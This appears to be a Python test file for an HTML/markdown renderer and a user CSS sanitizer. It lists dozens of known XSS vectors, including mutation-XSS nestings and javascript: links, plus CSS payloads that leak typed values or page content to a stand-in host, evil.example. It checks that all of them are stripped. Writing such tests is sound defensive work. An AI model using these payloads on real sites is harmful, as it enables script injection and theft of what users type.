"""Hostile writing and style sheets, after html5sec, DOMPurify's tests and what is known of leaks through CSS.

What comes out is read by html5lib and tinycss2, never by the code that made it, and read once more after it was written
out anew: markup that changes its meaning on the second reading (mutation XSS) would show.
"""

import re

import html5lib
import pytest
import tinycss2
from hypothesis import given
from hypothesis import strategies as st

from core.custom_css import sanitize
from core.rich_text import plain_to_html, to_html
from tests.core.test_rich_text import assert_safe

VECTORS = [
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>",
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="data:text/html;base64,PHNjcmlwdD4=">',
    '<base href="javascript:/a/-alert(1)///////"><a href=../lol/safari.html>x</a>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(//evil.example/x)">x</div>',
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<? foo="><script>alert(1)</script>">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "</p></div></body></html><script>alert(1)</script>",
    '[a](javascript:alert(1)//"onclick=alert(1)//)',
    '[a](https://a.example/"onmouseover="alert(1))',
    "[a](<https://a.example/><img src=x onerror=alert(1)>)",
    "[a](https://a.example 'title\" onclick=\"alert(1)')",
    "![x](https://evil.example/pixel.gif?`onerror=alert(1))",
    "![x][r]\n\n[r]: javascript:alert(1)",
    '<https://a.example/" onclick="alert(1)>',
    "<javascript:alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "[\u202egpj.exe](https://a.example)",
    "[x]: data:text/html,<script>alert(1)</script>\n[x]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ufeff<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    'www.a.example"onclick=alert(1)',
    'a@b.example"onclick=alert(1)',
    "https://a.example/<script>alert(1)</script>",
]
MARKS = [
    "",
    "\n\n",
    "> ",
    "- ",
    "**",
    "`",
    "|",
    "[",
    "](",
    ")",
    "<",
    ">",
    "&",
    '"',
    "'",
    "\\",
    "\n```\n",
    "![",
    "~~",
    "# ",
]
HOSTILE = st.lists(st.one_of(st.sampled_from(VECTORS), st.sampled_from(MARKS)), max_size=8).map("".join)


def settled(fragment):
    """What browsers make of a fragment when it is written out and read once more."""
    parsed = html5lib.parseFragment(fragment, container="div")
    return html5lib.serialize(parsed, quote_attr_values="always", omit_optional_tags=False)


@pytest.mark.parametrize("vector", VECTORS)
def test_a_known_attack_stays_writing(vector):
    for markdown in (vector, f"> {vector}", f"- {vector}", f"**{vector}**", f"a\n\n{vector}\n\nb", vector.upper()):
        for html in (to_html(markdown), plain_to_html(markdown)):
            assert_safe(html)
            assert_safe(settled(html))
            assert settled(settled(html)) == settled(html)


@given(HOSTILE)
def test_no_mixture_of_attacks_means_anything_else_on_a_second_reading(markdown):
    for html in (to_html(markdown), plain_to_html(markdown)):
        assert_safe(html)
        once = settled(html)
        assert_safe(once)
        assert settled(once) == once


@given(HOSTILE)
def test_nothing_is_fetched_for_what_somebody_wrote(markdown):
    html = to_html(markdown)
    assert not re.search(
        r"<(?!/?(?:p|br|hr|h[3-6]|ul|ol|li|blockquote|strong|em|s|code|pre|a|table|t[hrd]|thead|tbody)\b)", html
    )
    assert not re.search(r"<[^>]*\s(?:src|srcset|poster|background|ping|action|formaction|style|on\w+)\s*=", html)


# Each of these would tell another server what is on the page, read what is typed, or run something.
LEAKS = [
    "input[value^=a] { background: url(//evil.example/a) }",
    "textarea[name=text]:valid { background-image: url(https://evil.example/?typed) }",
    ".a { background: image-set('//evil.example/x' 1x) }",
    ".a { background: -webkit-image-set(url(//evil.example/x) 1x) }",
    ".a { background: cross-fade(url(//evil.example/x), red) }",
    ".a { background: element(#secret) }",
    ".a { background: paint(worklet) }",
    ".a { background: src('//evil.example/x') }",
    ".a { --x: url(//evil.example/x); background: var(--x) }",
    ".a { background: u\\72l(//evil.example/x) }",
    ".a { background: \\75\\72\\6C(//evil.example/x) }",
    ".a { background: URL( '//evil.example/x' ) }",
    ".a { background: url(data:image/svg+xml,<svg/onload=alert(1)>) }",
    ".a { list-style: url(//evil.example/x) }",
    ".a { cursor: url(//evil.example/x), auto }",
    ".a { content: url(//evil.example/x) }",
    ".a::before { content: attr(value) url(//evil.example/x) }",
    ".a { border-image: url(//evil.example/x) 30 }",
    ".a { mask: url(//evil.example/x#m) }",
    ".a { -webkit-mask-image: url(//evil.example/x) }",
    ".a { clip-path: url(//evil.example/x#c) }",
    ".a { filter: url(//evil.example/x#f) }",
    ".a { shape-outside: url(//evil.example/x) }",
    ".a { offset-path: url(//evil.example/x#p) }",
    ".a { src: local('Secret'), url(//evil.example/x) }",
    "@import '//evil.example/x.css';",
    "@import url(//evil.example/x.css) screen;",
    "@\\69mport '//evil.example/x.css';",
    "@font-face { font-family: x; src: url(//evil.example/x); unicode-range: U+0041 }",
    "@font-feature-values x { @swash { a: 1 } }",
    "@namespace url(//evil.example/);",
    "@charset 'utf-7';",
    "@document url(//evil.example/) { .a { color: red } }",
    "@page { background: url(//evil.example/x) }",
    "@counter-style x { system: cyclic; symbols: url(//evil.example/x) }",
    "@property --x { syntax: '<url>'; inherits: true; initial-value: url(//evil.example/x) }",
    "@layer a { .a { background: url(//evil.example/x) } }",
    "@container (min-width: 1px) { .a { background: url(//evil.example/x) } }",
    "@scope (.a) { :scope { background: url(//evil.example/x) } }",
    "@starting-style { .a { background: url(//evil.example/x) } }",
    "@view-transition { navigation: auto }",
    "@keyframes x { from { background: url(//evil.example/x) } }",
    "@media screen { @import '//evil.example/x.css'; }",
    "@supports (background: url(//evil.example/x)) { .a { color: red } }",
    ".a { & .b { background: url(//evil.example/x) } }",
    ".a { width: expression(alert(1)) }",
    ".a { behavior: url(x.htc) }",
    ".a { -moz-binding: url(//evil.example/x.xml#x) }",
    ".a { position: fixed; inset: 0; background: red }",
    ".a { color: red } </style><script>alert(1)</script>",
    ".a { color: red; } <!-- .b { background: url(//evil.example/x) } -->",
    ".a { content: '</style><script>alert(1)</script>' }",
    ".a { font-family: 'x;} .b { background: url(//evil.example/x) }' }",
    ".a::before { content: '\\0a } .b { background: url(//evil.example/x) }' }",
    ".a { color: red;/* */background:/**/url(//evil.example/x) }",
    ".a{color:red\x00;background:url(//evil.example/x)}",
    ".a{animation: x 1s; animation-timeline: scroll()}",
    ".a:has(input[value^=s]) { background: url(//evil.example/x) }",
    "html:has(.message-from-customer) .a { background: url(//evil.example/x) }",
    ".a { background-image: conic-gradient(from 0deg, url(//evil.example/x)) }",
    ".a { width: calc(1px + attr(data-x px)) }",
    ".a { width: if(style(--x: 1): 10px; else: 20px) }",
]
SHEETS = st.lists(
    st.one_of(st.sampled_from(LEAKS), st.sampled_from(["}", "{", '"', "'", "/*", "*/", "\\", "\n", ";", "@media x {"])),
    max_size=6,
)


def assert_leaks_nothing(css):
    assert "evil" not in css
    assert "<" not in css
    assert not re.search(
        r"url|import|expression|\\|image-set|@(?!media|supports|keyframes)|attr\(|fixed|javascript", css, re.I
    )
    for token in everything(tinycss2.parse_stylesheet(css)):
        assert token.type not in ("url", "error")
        assert token.type != "function" or token.lower_name not in ("url", "src", "element", "attr", "image", "paint")


def everything(nodes):
    for node in nodes:
        yield node
        for part in ("prelude", "content", "value", "arguments"):
            inside = getattr(node, part, None)
            if isinstance(inside, list):
                yield from everything(inside)


@pytest.mark.parametrize("sheet", LEAKS)
def test_a_known_leak_is_left_out_and_told(sheet):
    cleaned = sanitize(sheet)
    assert_leaks_nothing(cleaned.css)
    assert cleaned.problems
    assert sanitize(cleaned.css) == type(cleaned)(cleaned.css, [])


@given(SHEETS.map(" ".join))
def test_no_mixture_of_leaks_leaves_the_sheet(sheet):
    cleaned = sanitize(sheet)
    assert_leaks_nothing(cleaned.css)
    assert sanitize(cleaned.css).css == cleaned.css
